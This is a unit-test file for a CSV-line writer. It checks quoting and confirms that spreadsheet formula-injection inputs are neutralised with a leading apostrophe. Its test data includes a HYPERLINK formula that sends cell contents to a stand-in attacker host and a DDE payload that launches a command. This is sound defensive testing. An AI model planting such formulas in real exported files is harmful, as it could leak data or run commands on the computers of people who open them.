import { describe, expect, it } from "vitest";
import { csvLine } from "../../../src/control-plane/cli/management/csv.ts";

describe("a line of CSV", () => {
  it("quotes every value and doubles quotes, so that no value becomes two or ends the line", () => {
    expect(csvLine(["a", "", 'say "no"', "a,b;c", "1\r\n2"])).toBe(
      '"a","","say ""no""","a,b;c","1\r\n2"\r\n',
    );
  });

  it.each([
    "=1+1",
    "+49",
    "-2",
    "@SUM(A1)",
    "\t=1",
    " =1",
    "\r=1",
    "\u0000=1",
    "\u00a0=1",
    "＝1",
    '=HYPERLINK("https://evil.example?"&A1)',
    "=cmd|' /C calc'!A0",
  ])("puts a ' in front of %j, which a spreadsheet would run", (value) => {
    expect(csvLine([value])).toBe(`"'${value.replaceAll('"', '""')}"\r\n`);
  });

  it.each(["prod-2", "a=b", "{}", "0", "2026-11-29T00:00:00.000Z", "'=1", "ada@example.com"])(
    "leaves %j as it is",
    (value) => {
      expect(csvLine([value])).toBe(`"${value}"\r\n`);
    },
  );
});
